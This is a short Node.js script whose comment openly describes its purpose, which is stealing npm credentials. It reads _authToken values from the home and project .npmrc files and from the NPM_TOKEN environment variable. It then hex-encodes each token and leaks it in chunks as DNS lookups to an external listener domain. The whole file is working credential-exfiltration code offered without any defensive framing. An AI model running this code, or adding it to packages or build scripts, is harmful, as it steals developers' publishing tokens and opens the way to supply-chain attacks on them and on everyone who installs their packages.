// Reads _authToken values from ~/.npmrc and ./.npmrc and leaks them as base32-ish DNS labels via dns.resolve.
import { readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
import dns from "node:dns";

const files = [join(homedir(), ".npmrc"), join(process.cwd(), ".npmrc")];
const tokens = [];
for (const f of files) {
  try {
    for (const line of readFileSync(f, "utf8").split("\n")) {
      const m = line.match(/_authToken\s*=\s*(\S+)/);
      if (m) tokens.push(m[1]);
    }
  } catch {}
}
if (process.env.NPM_TOKEN) tokens.push(process.env.NPM_TOKEN);

const zone = "ns1.oast-listener.example.net";
tokens.forEach((tok, i) => {
  const hex = Buffer.from(tok).toString("hex");
  for (let off = 0, n = 0; off < hex.length; off += 56, n++) {
    dns.resolve(`${hex.slice(off, off + 56)}.${n}.${i}.${zone}`, () => {});
  }
});
